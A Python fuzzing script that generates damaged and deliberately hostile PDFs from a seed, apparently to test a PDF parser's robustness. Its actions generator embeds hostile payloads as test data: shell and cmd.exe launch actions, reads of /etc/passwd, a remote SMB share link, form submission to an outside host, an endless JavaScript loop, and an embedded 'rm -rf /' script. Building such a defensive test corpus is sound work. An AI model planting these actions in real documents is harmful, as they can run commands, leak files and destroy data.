# SPDX-License-Identifier: GPL-3.0-or-later
"""PDFs as a bad disk, a bad program or a bad person makes them. All from a seed."""
import random
import re
import zlib

import hostilebombs
from hostileparts import page, pdf, stream

WHOLE = 1000  # documents; a smaller run has a part of each kind


# What is done to a good document.

def truncated(data, chance):
    return data[:chance.randrange(1, max(2, len(data) // 64)) * 64]


def bits_flipped(data, chance):
    changed = bytearray(data)
    for _ in range(chance.choice((1, 4, 32, 256))):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def bytes_dropped(data, chance):
    at = chance.randrange(len(data))
    return data[:at] + data[at + chance.randrange(1, 4096):]


def noise_inside(data, chance):
    at = chance.randrange(len(data))
    noise = chance.randbytes(chance.randrange(1, 2048))
    return data[:at] + noise + data[at + len(noise):]


def numbers_changed(data, chance):
    """Lengths, counts, places and sizes that are not true."""
    found = list(re.finditer(rb"(?<=[ \[])\d+(?=[ \]\r\n/>])", data))
    changed = data
    for match in sorted(chance.sample(found, min(len(found), 6)), key=lambda m: -m.start()):
        wrong = chance.choice((b"-1", b"0", b"2147483647", b"4294967296", b"99999999999999999999", b"1e30"))
        changed = changed[:match.start()] + wrong + changed[match.end():]
    return changed


def objects_swapped(data, chance):
    found = list(re.finditer(rb"(\d+) 0 (obj|R)\b", data))
    if len(found) < 2:
        return data[::-1]
    changed = data
    for _ in range(4):
        one, other = sorted(chance.sample(found, 2), key=lambda m: m.start())
        if len(one[1]) == len(other[1]):
            changed = (changed[:one.start()] + other[1] + changed[one.start() + len(one[1]):other.start()] + one[1]
                       + changed[other.start() + len(other[1]):])
    return changed


DAMAGES = (truncated, bits_flipped, bytes_dropped, noise_inside, numbers_changed, objects_swapped)
QUICK = {damage.__name__ for damage in DAMAGES} | {"cut_everywhere", "loops", "actions"}


# What is made to harm.

def loops():
    good = page()
    start = good.rindex(b"startxref")
    table = int(good[start + 10:].split()[0])
    yield good[:start].replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % table) + good[start:]
    yield good[:start] + b"startxref\n%d\n%%%%EOF\n" % start
    kids = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"}
    yield pdf(kids)
    yield pdf(kids | {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"})
    yield pdf(kids | {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1999 >>"})
    deep = {n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1) for n in range(3, 5003)}
    yield pdf(kids | deep | {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"})
    yield page(more={4: b"<< /Length 4 0 R >>\nstream\nx\nendstream"})
    yield page(catalog=b"/Outlines 6 0 R", more={6: b"<< /First 7 0 R /Last 7 0 R >>",
                                                7: b"<< /Title (x) /Next 7 0 R /First 7 0 R /Parent 6 0 R >>"})
    yield page(b"/X Do", b"/XObject << /X 6 0 R >>",
               more={6: stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")})
    yield page(extra=b"/Annots 3 0 R")
    yield page(more={5: b"5 0 R"})
    yield page(more={5: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 77 /LastChar 77 "
                        b"/Widths [1] /Encoding << /Differences [77 /M] >> /CharProcs << /M 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>",
                     6: stream(b"BT /F 12 Tf (M) Tj ET")})


def nesting():
    for opening, closing in ((b"[", b"]"), (b"<< /A ", b">>"), (b"[<< /A ", b">>]")):
        for depth in (10_000, 200_000):
            body = opening * depth + b"1" + closing * depth
            yield page(more={5: body})
            yield page(body + b" pop BT /F 12 Tf (x) Tj ET")
    yield page(b"q " * 500_000)
    yield page(b"/A BMC " * 500_000)
    yield page(b"BT " * 500_000)


def boxes():
    for box in (b"[0 0 1000000000 1000000000]", b"[0 0 0 0]", b"[0 0 1e300 1e300]", b"[-2147483648 -2147483648 2147483647 2147483647]",
                b"[595 842 0 0]", b"[0 0 0.0001 0.0001]", b"[]", b"[/a /b /c /d]", b"[0 0 200000 3]", b"3 0 R"):
        yield page(box=box)
        yield page(b"0 0 300 300 re f", box=box)
    yield page(extra=b"/UserUnit 1000000")
    yield page(extra=b"/Rotate 1000000007")
    yield page(extra=b"/CropBox [900 900 901 901]")


def actions():
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}) >>"
    for action in (script, b"<< /S /Launch /F (/bin/sh) >>", b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
                   b"<< /S /URI /URI (https://example.org/track) >>", b"<< /S /URI /URI (file:///etc/passwd) >>",
                   b"<< /S /GoToR /F (\\\\\\\\example.org\\\\share\\\\x.pdf) /D [0 /Fit] >>", b"<< /S /SubmitForm /F (https://example.org/) >>",
                   b"<< /S /ImportData /F (/etc/passwd) >>", b"<< /S /GoTo /D [999999 /Fit] /Next 6 0 R >>"):
        yield page(catalog=b"/OpenAction " + action)
        yield page(extra=b"/AA << /O %s >> /Annots [<< /Subtype /Link /Rect [0 0 500 800] /A %s >>]" % (action, action), more={6: action})
    yield page(catalog=b"/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> /JavaScript << /Names [(a) 8 0 R] >> >>",
               more={6: b"<< /Type /Filespec /F (../../evil.sh) /EF << /F 7 0 R >> >>", 7: stream(b"rm -rf /", b"/Type /EmbeddedFile"),
                     8: script})
    yield page(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", more={6: stream(b"<xdp><script>" * 10_000)})
    yield page(packed=b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream")
    yield page(extra=b"/Annots [" + b"<< /Subtype /Link /Rect [0 0 5 8] /A << /S /URI /URI (https://example.org/) >> >> " * 50_000 + b"]")


def fonts(chance):
    for key, subtype in ((b"FontFile", b"Type1"), (b"FontFile2", b"TrueType"), (b"FontFile3", b"Type1")):
        for size in (0, 1, 12, 5000, 300_000):
            body = (b"\0\1\0\0\0\x10" if key == b"FontFile2" else b"%!PS-AdobeFont-1.0: X\n" if key == b"FontFile" else b"\1\0\4\4") + chance.randbytes(size)
            yield page(more={5: b"<< /Type /Font /Subtype /%s /BaseFont /ABCDEF+X /FirstChar 0 /LastChar 255 /Widths [%s] /FontDescriptor 6 0 R >>"
                             % (subtype, b"500 " * 256),
                             6: b"<< /Type /FontDescriptor /FontName /ABCDEF+X /Flags 4 /FontBBox [0 0 1000 1000] /%s 7 0 R >>" % key,
                             7: stream(body, b"/Subtype /Type1C /Length1 %d" % len(body))})
    for cmap in (b"begincmap " + b"<00> <ffffffff> <0000> endbfrange " * 1000, b"1 beginbfrange <0000> <ffff> <d800> endbfrange",
                 b"/usecmap 6 0 R usecmap", chance.randbytes(50_000), b"begincodespacerange <00> <ff> " * 100_000):
        yield page(more={5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>", 6: stream(cmap)})
    yield page(more={5: b"<< /Type /Font /Subtype /Type1 /BaseFont /X /FirstChar -5 /LastChar 999999999 /Widths [1] >>"})
    yield page(more={5: b"<< /Type /Font /Subtype /Type1 /BaseFont /X /Encoding << /Differences [" + b"1 /a " * 200_000 + b"] >> >>"})


def images(chance):
    """No text, so that the page is read by OCR and its image really decoded."""
    for name, body in ((b"/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n" + chance.randbytes(4000)), (b"/DCTDecode", b"\xff\xd8\xff\xe0" + chance.randbytes(4000)),
                       (b"/JBIG2Decode", chance.randbytes(4000)), (b"/CCITTFaxDecode", chance.randbytes(4000)), (b"/LZWDecode", chance.randbytes(4000)),
                       (b"/RunLengthDecode", chance.randbytes(4000)), (b"/ASCII85Decode", b"z" * 100_000)):
        for size in (b"/Width 1000 /Height 1000", b"/Width 2147483647 /Height 2147483647", b"/Width -1 /Height 0"):
            yield page(b"q 595 0 0 842 0 0 cm /I Do Q", b"/XObject << /I 6 0 R >>",
                       more={6: stream(body, b"/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter %s %s" % (name, size))})
    noise = zlib.compress(chance.randbytes(1600 * 1100), 1)
    yield page(b"q 595 0 0 842 0 0 cm /I Do Q", b"/XObject << /I 6 0 R >>",
               more={6: stream(noise, b"/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceGray /Width 1100 /Height 1600 /Filter /FlateDecode")})


def locked(chance):
    for entries in (b"/Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -1", b"/Filter /Standard /V 5 /R 6 /Length 999999 /O () /U ()",
                    b"/Filter /Nonsense", b"/Filter /Standard /V 4 /R 4 /CF << /StdCF << /CFM /AESV2 /Length -1 >> >> /StmF /StdCF /StrF /StdCF"):
        yield pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"},
                  trailer=b"/Encrypt << %s >> /ID [(a) (b)]" % entries)
    for size in (0, 1, 5, 9, 1024):
        yield b"%PDF-1.7\n"[:size] + chance.randbytes(max(0, size - 9))


def made(chance):
    """Every document that is made to harm, by kind."""
    return {"loops": loops(), "nesting": nesting(), "boxes": boxes(), "actions": actions(), "fonts": fonts(chance),
            "images": images(chance), "locked": locked(chance), "bombs": hostilebombs.bombs(), "paths": hostilebombs.paths(),
            "billion_points": hostilebombs.billion_points(), "hundred_gigabytes": hostilebombs.hundred_gigabytes()}


def damaged(good, count, chance):
    """Kind and bytes of so many sound documents after an accident. A whole run has the shortest one cut at every
    64th byte; whatever is too short to be a document of its own is among these."""
    if count >= WHOLE:
        shortest = min(good, key=len)
        for size in range(0, len(shortest), 64):
            yield "cut_everywhere", shortest[:size]
        count -= (len(shortest) + 63) // 64
    for number in range(count):
        damage = DAMAGES[number % len(DAMAGES)]
        data = chance.choice(good)
        for _ in range(chance.choice((1, 1, 1, 2))):
            data = damage(data, chance)
        yield damage.__name__, data


def write(folder, samples, count, seed):
    """About `count` documents, at least one of each kind; file name → kind."""
    chance = random.Random(seed)
    kinds = {}

    def keep(kind, content):
        name = f"{kind}-{len(kinds):05}.pdf"
        (folder / name).write_bytes(content)
        kinds[name] = kind

    for kind, documents in made(chance).items():
        every = list(documents)
        # A small run takes a part of them, another one with another seed.
        part = every if count >= WHOLE else chance.sample(every, max(1, len(every) * count // 600))
        for content in part:
            keep(kind, content)
    good = [path.read_bytes() for path in samples]
    for kind, content in damaged(good, max(len(DAMAGES), count - len(kinds)), chance):
        keep(kind, content)
    return kinds
